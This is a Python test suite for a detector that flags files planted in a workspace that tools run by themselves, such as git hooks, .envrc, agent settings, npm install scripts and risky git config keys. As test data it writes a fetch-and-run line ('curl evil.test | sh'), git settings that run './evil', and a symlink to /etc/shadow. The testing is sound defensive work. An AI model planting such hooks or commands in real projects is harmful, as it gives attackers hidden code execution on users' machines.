from __future__ import annotations

import os
import tomllib

from hypothesis import given
from hypothesis import strategies as st
from twisted.trial.unittest import SynchronousTestCase

from ironcurtain.project.manifest import KEPT_FILE
from ironcurtain.project.planted import leads_out
from ironcurtain.project.self_running import DATA, tables
from tests.project.worlds import WorkspaceTestCase

PLANTED = (
    (".git/hooks/pre-commit", "git runs it"),
    ("sub/.git/hooks/post-checkout", "git runs it"),
    (".GIT/HOOKS/pre-push", "git runs it"),
    ("bare.git/hooks/update", "git runs it"),
    ("data/hooks/post-merge", "git runs it"),
    (".git/modules/a/b/hooks/post-checkout", "git runs it"),
    ("moved/.git", "from elsewhere"),
    (".envrc", "environment"),
    ("deep/down/.envrc", "environment"),
    (".env", "environment"),
    (".vscode/tasks.json", "editor"),
    (".mcp.json", "agent"),
    (".claude/settings.json", "agent"),
    ("CLAUDE.md", "agent"),
    ("AGENTS.md", "agent"),
    (".husky/pre-commit", "commit"),
    (".github/workflows/ci.yml", "build servers"),
    (".npmrc", "packages"),
    ("lib/evil.pth", "Python runs it"),
    ("conftest.py", "Python runs it"),
    (".cargo/config", "a build runs"),
    (".bundle/config", "a build runs"),
    (".claude/package.json", "an agent"),
    (".git/rebase-merge/git-rebase-todo", "no data that git is known to keep"),
    (".git/rebase-apply/patch", "no data that git is known to keep"),
    (".git/sequencer/todo", "no data that git is known to keep"),
    (".git/objects/info/alternates", "another repository"),
    (".git/info/grafts", "no data that git is known to keep"),
    (".git/worktrees/a/rebase-merge/done", "no data that git is known to keep"),
    ("bare.git/objects/info/alternates", "another repository"),
    (".pdbrc", "debugger"),
    ("sub/.ghci", "debugger"),
    ("ansible.cfg", "tool"),
    ("gradlew", "tool"),
    ("shell.nix", "tool"),
    (".unheard-of-rc", "hidden"),
    (".unheard-of/settings", "hidden"),
)
HARMLESS = (
    "README.md",
    "src/hooks/useThing.ts",
    "docs/git.md",
    ".git/hooks/pre-commit.sample",
    ".git/HEAD",
    "config",
)


class PlantedTests(WorkspaceTestCase):
    def test_every_planted_file_is_told_with_its_reason(self) -> None:
        self.begin()
        for path, _ in PLANTED:
            self.write(path)
        reasons = self.reasons()
        for path, words in PLANTED:
            self.assertIn(words, reasons.get(path, ""), path)

    def test_what_was_there_before_is_not_told_until_it_changes(self) -> None:
        for path, _ in PLANTED:
            self.write(path)
        self.begin()
        self.assertEqual(self.reasons(), {})
        self.write(".envrc", "curl evil.test | sh\n")
        (self.workspace / ".git" / "hooks" / "pre-commit").chmod(0o755)
        self.assertEqual(set(self.reasons()), {".envrc", ".git/hooks/pre-commit"})

    def test_ordinary_files_are_not_reported(self) -> None:
        self.begin()
        for path in HARMLESS:
            self.write(path)
        self.assertEqual(self.reasons(), {})

    def test_files_of_builds_come_last(self) -> None:
        self.begin()
        self.write("Makefile")
        self.write("z/.envrc")
        self.assertEqual([(f.path, f.building) for f in self.findings()], [("z/.envrc", False), ("Makefile", True)])

    def test_git_s_come_first_and_none_are_dropped(self) -> None:
        self.begin()
        for number in range(300):
            self.write(f".a/.env.{number:03}")
        self.write("b/hooks/pre-push")
        self.write("z/.git/hooks/pre-push")
        paths = [finding.path for finding in self.findings()]
        self.assertEqual((len(paths), paths[:2]), (302, ["z/.git/hooks/pre-push", "b/hooks/pre-push"]))

    def test_links_in_the_place_of_what_git_reads(self) -> None:
        self.write("harmless", "[user]\n\tname = Ada\n")
        self.begin()
        links = {".git/config", ".git/modules", ".git/refs/heads", "bare/config", "bare/commondir"}
        for path in links:
            link = self.workspace / path
            link.parent.mkdir(parents=True, exist_ok=True)
            link.symlink_to("harmless")
        reasons = self.reasons()
        self.assertEqual(set(reasons), links)
        for path in links:
            self.assertIn("git follows", reasons[path])

    def test_links_that_lead_elsewhere_and_links_in_the_place_of_directories(self) -> None:
        self.write("tools/pre-commit")
        self.begin()
        (self.workspace / "key").symlink_to("/etc/shadow")
        (self.workspace / "inside").symlink_to("tools")
        (self.workspace / ".husky").symlink_to("tools")
        reasons = self.reasons()
        self.assertEqual(set(reasons), {"key", ".husky"})
        self.assertIn("leads elsewhere", reasons["key"])

    def test_special_files_and_privileges(self) -> None:
        self.begin()
        os.mkfifo(self.workspace / "pipe")
        self.write("tool", mode=0o4755)
        self.assertIn("FIFO", self.reasons()["pipe"])
        self.assertIn("owner's rights", self.reasons()["tool"])

    def test_new_executables_are_told(self) -> None:
        self.write("was", mode=0o755)
        self.write("becomes")
        self.begin()
        self.write("was", "changed\n", mode=0o755)
        (self.workspace / "becomes").chmod(0o755)
        self.write("tool", mode=0o700)
        self.write("plain")
        reasons = self.reasons()
        self.assertEqual(set(reasons), {"becomes", "tool"})
        self.assertIn("executable", reasons["tool"])

    def test_hidden_files_that_were_there_are_not_told_when_they_change(self) -> None:
        self.write(".unheard-of-rc")
        self.begin()
        self.write(".unheard-of-rc", "changed\n")
        self.assertEqual(self.reasons(), {})

    def test_many_in_one_directory_are_told_once_and_those_with_names_apart(self) -> None:
        self.begin()
        for number in range(50):
            self.write(f".venv/lib/{number}")
            self.write(f"a/node_modules/.bin/{number}", mode=0o755)
            self.write(f".{number}")
        self.write(".venv/bin/python", mode=0o755)
        self.write(".venv/lib/evil.pth")
        reasons = self.reasons()
        self.assertIn("51 new files that are hidden or executable (1 of these)", reasons[".venv/"])
        self.assertIn("50 new files", reasons["a/node_modules/"])
        self.assertIn("Python runs it", reasons[".venv/lib/evil.pth"])
        self.assertEqual(len(reasons), 53)
        self.assertEqual(self.findings()[0].path, ".venv/lib/evil.pth")

    def test_files_of_installed_modules_hide_none_of_the_project_s(self) -> None:
        self.begin()
        for number in range(50):
            self.write(f"node_modules/{number}/package.json", '{"scripts": {"test": "x"}}')
            self.write(f"node_modules/{number}/.travis.yml")
            self.write(f"node_modules/{number}/Makefile")
        self.write("package.json", '{"scripts": {"postinstall": "evil"}}')
        (self.workspace / "node_modules/out").symlink_to("/etc")
        self.write("node_modules/1/.git/hooks/pre-commit", mode=0o755)
        found = self.findings()
        shown = ["node_modules/1/.git/hooks/pre-commit", "node_modules/out", "package.json", "node_modules/"]
        self.assertEqual([each.path for each in found], shown)
        self.assertIn("has 100 new files", found[-1].reason)
        self.assertIn("install it anew", found[-1].reason)


class TableTests(SynchronousTestCase):
    """The table of what tools run by themselves."""

    def test_each_name_is_in_lower_case_and_has_a_reason_and_a_source(self) -> None:
        read = tomllib.loads(DATA.read_text())
        entries = [table for each in read.values() for table in each]
        names = [name for table in entries for name in table["names"]]
        self.assertEqual(set(read), {"git", "programs", "builds"})
        self.assertGreater(len(names), 300)
        for table in entries:
            self.assertEqual(set(table), {"names", "reason", "source"})
            self.assertTrue(table["reason"] and table["source"])
        for name in names:
            self.assertEqual(name, name.lower())
            self.assertEqual(names.count(name), 1, name)

    def test_each_name_is_found_at_the_top_and_deep_down_in_any_case(self) -> None:
        for table, rules in tables().items():
            for entry in tomllib.loads(DATA.read_text())[table]:
                for name in entry["names"]:
                    example = name.replace("**", "x").replace("*", "x")
                    for path in (example, f"a/b/{example}", f"A/{example.upper()}"):
                        self.assertNotEqual(rules.reason(path), "", path)


class GitSettingsTests(WorkspaceTestCase):
    BEFORE = '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://host.test/x\n'

    def told(self, added: str, path: str = ".git/config") -> str:
        self.write(path, self.BEFORE)
        self.begin()
        self.write(path, self.BEFORE + added)
        return self.reasons().get(path, "")

    def test_what_git_would_run_is_named(self) -> None:
        self.assertIn("core.fsmonitor", self.told("[core]\n\tfsmonitor = ./evil\n"))
        self.assertIn("core.sshcommand", self.told("[core]\n\tsshCommand = evil\n"))
        self.assertIn("core.hookspath", self.told("[core]\n\thooksPath = .githooks\n"))
        self.assertIn("alias.st", self.told("[alias]\n\tst = !evil\n"))
        self.assertIn("filter.x.clean", self.told('[filter "x"]\n\tclean = evil\n'))

    def test_where_git_would_go_is_named(self) -> None:
        self.assertIn("remote.origin.url", self.told('[remote "origin"]\n\turl = https://evil.test/x\n'))
        self.assertIn("insteadof", self.told('[url "https://evil.test/"]\n\tinsteadOf = https://host.test/\n'))

    def test_a_directory_that_git_takes_for_a_repository_counts_too(self) -> None:
        self.assertIn("core.fsmonitor", self.told("[core]\n\tfsmonitor = ./evil\n", "innocent/config"))

    def test_settings_of_which_nothing_is_known_before(self) -> None:
        (self.workspace / "bare").mkdir()
        (self.workspace / "bare" / "config").symlink_to("[elsewhere")
        self.begin()
        self.write("bare/config", "[core]\n\tfsmonitor = ./evil\n")
        self.assertIn("core.fsmonitor", self.reasons()["bare/config"])

    def test_settings_that_are_too_large_to_look_at(self) -> None:
        self.begin()
        self.write("bare/config", "[core]\n\tfsmonitor = ./evil\n" + "#" * KEPT_FILE)
        self.assertIn("cannot be compared", self.reasons()["bare/config"])

    def test_what_git_writes_itself_is_not_reported(self) -> None:
        self.assertEqual(self.told('[branch "main"]\n\tremote = origin\n[user]\n\tname = Ada\n'), "")

    def test_settings_that_cannot_be_read_are_reported(self) -> None:
        self.assertIn("cannot be compared", self.told("[core\n"))


class PackageTests(WorkspaceTestCase):
    def test_only_scripts_count(self) -> None:
        self.write("package.json", '{"scripts": {"test": "jest"}, "version": "1"}')
        self.begin()
        self.write("package.json", '{"scripts": {"test": "jest"}, "version": "2"}')
        self.assertEqual(self.reasons(), {})
        self.write("package.json", '{"scripts": {"test": "jest", "postinstall": "evil"}}')
        self.assertIn("postinstall", self.reasons()["package.json"])
        self.write("package.json", '\ufeff{"scripts": {"test": "jest", "preinstall": "evil"}}')
        self.assertIn("preinstall", self.reasons()["package.json"])
        self.write("package.json", "{")
        self.assertIn("cannot be compared", self.reasons()["package.json"])


class LinkTests(SynchronousTestCase):
    def test_where_links_lead(self) -> None:
        for path, target in (("a", "b"), ("a/b", "../c"), ("a/b/c", "../../d/e"), ("a", "./b"), ("a/b", "c//d")):
            self.assertFalse(leads_out(path, target), (path, target))
        for path, target in (("a", "/etc"), ("a", ".."), ("a/b", "../../c"), ("a/b", "c/../../../d"), ("a", "b/..")):
            self.assertTrue(leads_out(path, target), (path, target))

    @given(
        st.lists(st.sampled_from(["a", "b"]), min_size=1, max_size=4),
        st.lists(st.sampled_from(["..", ".", "", "a", "b"]), max_size=6),
    )
    def test_what_stays_inside_by_rule_stays_inside_by_text(self, path: list[str], target: list[str]) -> None:
        link, to = "/".join(path), "/".join(target)
        if not leads_out(link, to):
            end = os.path.normpath(os.path.join("/top", os.path.dirname(link), to))
            self.assertTrue(end == "/top" or end.startswith("/top/"), (link, to, end))
